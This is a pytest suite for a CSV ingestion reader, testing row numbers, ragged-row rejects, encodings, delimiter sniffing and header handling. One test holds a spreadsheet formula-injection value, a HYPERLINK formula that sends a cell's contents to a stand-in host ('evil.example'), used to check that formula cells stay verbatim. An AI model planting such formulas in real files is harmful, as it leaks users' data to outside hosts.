"""Delimited text: row numbers, rejects, encodings, delimiters, headers."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from atlas.errors import RejectedInput
from atlas.ingest.readers import Source, open_source


def test_ragged_rows_reported_with_physical_lines(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    text = 'a,b,c\n1,2,3\n4,"multi\nline",6\n7,8\n9,10,11,12\n13,14,15\n'
    source = open_source(write("ragged.csv", text), con=con)
    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 5), ("ragged-row", 6)]
    assert source.issues[0].value == "7,8"
    assert [(r[0], r[-1]) for r in rows(source)] == [("1", 2), ("4", 3), ("13", 7)]


def test_quoted_newlines_and_blank_lines_keep_row_numbers(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    text = 'id,note\n1,"a\nb\nc"\n\n2,plain\n3,"x\r\ny"\n4,z'
    source = open_source(write("quoted.csv", text), con=con)
    assert [(r[0], r[-1]) for r in rows(source)] == [("1", 2), ("2", 6), ("3", 7), ("4", 9)]
    assert rows(source)[0][1] == "a\nb\nc"


def test_row_numbers_match_an_id_column(con: duckdb.DuckDBPyConnection, write: Callable[..., Path]) -> None:
    lines = ["line,v"] + [f"{n},{n * 3}" for n in range(2, 30_002)]
    source = open_source(write("ids.csv", "\n".join(lines) + "\n"), con=con)
    bad = source.relation(con).filter("CAST(c_line AS BIGINT) <> _row").count("*").fetchone()
    assert bad == (0,)


@pytest.mark.parametrize("buffer_bytes", [None, 0])
def test_one_parallel_parse_keeps_file_order_and_rejects(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         buffer_bytes: int | None) -> None:
    """Large enough (26 MB) for DuckDB to split the file between threads: every record keeps its physical line,
    rejected and quoted multi-line records included, from the single parse that also collects the rejects. With
    the read buffer at its floor (2 MB: twice the longest record) the same file spans 13 buffers."""
    if buffer_bytes is not None:
        from atlas.ingest.readers import csv as delimited

        monkeypatch.setattr(delimited, "_BUFFER_BYTES", buffer_bytes)
    path = tmp_path / "big.csv"
    with path.open("w") as fh:
        fh.write("line,v\n")
        line = 2
        for n in range(600_000):
            if n % 100_000 == 50_000:
                fh.write(f"{line},1,2\n")  # ragged: rejected, reported at its line
                line += 1
            elif n % 100_000 == 70_000:
                fh.write(f'{line},"two\nlines"\n')
                line += 2
            else:
                fh.write(f"{line},{n:030d}\n")
                line += 1
    con = duckdb.connect(config={"threads": 4})
    source = open_source(path, con=con)
    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 50_002 + k * 100_000 + k) for k in range(6)]
    bad = source.relation(con).filter("CAST(c_line AS BIGINT) <> _row").count("*").fetchone()
    assert bad == (0,)
    assert source.relation(con).count("*").fetchone() == (599_994,)
    assert con.execute("SELECT count(*) FROM duckdb_tables() WHERE table_name LIKE 'atlas_rejects_%'").fetchone() == (0,)


def test_huge_field_is_reported_not_fatal(
    tmp_path: Path, con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]],
    write: Callable[..., Path]
) -> None:
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.write(b"id,text\n1,short\n2,")
        chunk = b"x" * (1 << 20)
        for _ in range(100):
            handle.write(chunk)
        handle.write(b"\n3,fine\n")
    source = open_source(path, con=con)
    assert [(i.code, i.row) for i in source.issues] == [("field-too-long", 3)]
    assert len(source.issues[0].value or "") <= 201
    assert [(r[0], r[-1]) for r in rows(source)] == [("1", 2), ("3", 4)]


def test_duplicate_headers_kept_distinct(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    source = open_source(write("dup.csv", "sex,age,sex\nF,3,M\n"), con=con)
    assert [c.name for c in source.columns] == ["c_sex", "c_age", "c_sex_2"]
    assert [c.original for c in source.columns] == ["sex", "age", "sex"]
    assert [i.code for i in source.issues] == ["duplicate-header"]
    assert rows(source) == [("F", "3", "M", 2)]


def test_formula_cells_stay_verbatim(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = 'name,link\n"@SUM(1+1)","' + formula.replace('"', '""') + '"\n'
    source = open_source(write("formula.csv", text), con=con)
    assert rows(source) == [("@SUM(1+1)", formula, 2)]


ENCODED = "name,town\nJosé,Zürich\nŒuvre – “quoted”,Köln\n"


@pytest.mark.parametrize(
    ("encoding", "prefix", "expected"),
    [
        ("utf-8", b"", "utf-8"),
        ("utf-8", b"\xef\xbb\xbf", "utf-8-sig"),
        ("utf-16-le", b"\xff\xfe", "utf-16-le"),
        ("utf-16-be", b"\xfe\xff", "utf-16-be"),
        ("cp1252", b"", "cp1252"),
    ],
)
def test_every_encoding(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path],
    encoding: str, prefix: bytes, expected: str,
) -> None:
    path = write("enc.csv", prefix + ENCODED.encode(encoding))
    source = open_source(path, con=con)
    assert source.encoding == expected
    assert [c.original for c in source.columns] == ["name", "town"]
    assert rows(source) == [("José", "Zürich", 2), ("Œuvre – “quoted”", "Köln", 3)]


def test_latin1_bytes_in_a_utf8_named_file_are_decoded(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    path = write("declared-utf8.csv", "país,año\nPanamá,2015\nMéxico,2016\n".encode("latin-1"))
    source = open_source(path, con=con)
    assert source.encoding == "latin-1"
    assert rows(source) == [("Panamá", "2015", 2), ("México", "2016", 3)]


def test_transcoded_ragged_rows(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    path = write("bad.csv", "a,b\né,1\nx\ny,2,3\nz,\"q\nq\"\nw,4\n".encode("latin-1"))
    source = open_source(path, con=con)
    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", 3), ("ragged-row", 4)]
    assert [(r[0], r[-1]) for r in rows(source)] == [("é", 2), ("z", 5), ("w", 7)]


@pytest.mark.parametrize(
    ("name", "text", "delimiter"),
    [
        ("t.tsv", "a\tb\tc\n1\t2,5\t3\n", "\t"),
        ("t.csv", "a;b;c\n1;2,5;3\n4;5;6\n", ";"),
        ("p.csv", "a|b|c\n1|2|3\n", "|"),
        ("c.csv", "a,b,c\n1,\"2;5\",3\n", ","),
    ],
)
def test_delimiter_sniffing(con: duckdb.DuckDBPyConnection, name: str, text: str,
                            delimiter: str, write: Callable[..., Path]) -> None:
    source = open_source(write(name, text), con=con)
    assert source.delimiter == delimiter
    assert len(source.columns) == 3


def test_kobo_group_headers(con: duckdb.DuckDBPyConnection, write: Callable[..., Path]) -> None:
    text = "start,group_hh/sex,group_hh/age,g1/name,g2/name\n1,F,3,a,b\n"
    source = open_source(write("kobo.csv", text), con=con)
    assert [c.name for c in source.columns] == ["c_start", "c_sex", "c_age", "c_g1_name", "c_g2_name"]
    assert source.columns[1].original == "group_hh/sex"


def test_header_row_forced(
    con: duckdb.DuckDBPyConnection, rows: Callable[[Source], list[tuple]], write: Callable[..., Path]
) -> None:
    source = open_source(write("t.csv", "report\n\nx,y\n1,2\n"), header_row=3, con=con)
    assert [c.original for c in source.columns] == ["x", "y"]
    assert rows(source) == [("1", "2", 4)]


def test_hapi_bom(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(shared_data / "migration/iom_dtm/hdx_hapi_idps_global.csv", con=con)
    assert source.encoding == "utf-8-sig"
    assert source.columns[0].original == "location_code"


@pytest.mark.parametrize("name", [
    "sdc/sdcmicro_testdata.csv", "sdc/tauargus/cellkey_magnitude/microdata.csv", "sdc/sdcmicro_free1.csv",
])
def test_sdc_files(shared_data: Path, con: duckdb.DuckDBPyConnection, name: str) -> None:
    source = open_source(shared_data / name, con=con)
    assert source.relation(con).count("*").fetchone()[0] >= 4000  # type: ignore[index]


_FIELD = st.text(alphabet=st.sampled_from(list("abcxyz019 é,\"\n")), min_size=0, max_size=6)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    records=st.lists(
        st.tuples(st.lists(_FIELD, min_size=3, max_size=3), st.sampled_from([0, 0, 0, 1, 3, 5]), st.booleans()),
        min_size=1, max_size=25,
    ),
    encoding=st.sampled_from(["utf-8", "cp1252"]),
)
def test_row_numbers_are_physical_lines(
    tmp_path: Path, con: duckdb.DuckDBPyConnection, records: list[tuple[list[str], int, bool]], encoding: str
) -> None:
    """Whatever the quoted line breaks, blank lines and ragged rows, `_row` is the record's first line."""
    lines = ["a,b,c"]
    kept, ragged = [], []
    for number, (fields, width, blank_after) in enumerate(records):
        cells = [f"r{number}"] + fields[1:] if width == 0 else [f"r{number}"] + ["z"] * width
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerow(cells)
        (kept if width == 0 else ragged).append((cells[0], len(lines) + 1))
        lines.extend(buffer.getvalue()[:-1].split("\n"))
        if blank_after:
            lines.append("")
    path = tmp_path / f"p-{encoding}.csv"
    path.write_bytes(("\n".join(lines) + "\n").encode(encoding))
    if not kept:
        with pytest.raises(RejectedInput):
            open_source(path, con=con)
        return
    source = open_source(path, con=con)
    assert source.delimiter == ","
    got = source.relation(con).order("_row").project("c_a, _row").fetchall()
    assert got == kept
    assert [(i.code, i.row) for i in source.issues] == [("ragged-row", line) for _, line in ragged]


@pytest.mark.parametrize(
    ("text", "header_row"),
    [("1,2.5\n3,4\n", None), ('"Total";"Nr";16847646,84;0,01\n"Total";"1";3,00;0,01\n', None), ("a,b\nc,d\n", 0)],
)
def test_headerless_files(
    con: duckdb.DuckDBPyConnection, write: Callable[..., Path], text: str, header_row: int | None
) -> None:
    source = open_source(write("nohead.csv", text), header_row=header_row, con=con)
    assert source.columns[0].name == "c_column_1"
    assert [i.code for i in source.issues] == ["no-header"]
    assert source.relation(con).order("_row").project("_row").fetchall() == [(1,), (2,)]


def test_tau_argus_table(shared_data: Path, con: duckdb.DuckDBPyConnection) -> None:
    source = open_source(shared_data / "sdc/tauargus/tableinput/pp.tab", con=con)
    assert source.delimiter == ";"
    first = source.relation(con).order("_row").limit(1).fetchall()
    assert first == [("Total", "Total", "16847646,84", "42723", "16847646,84", "16847646,84", "175677,00",
                      "141482,00", "S", "0,01", "0,01", 1)]
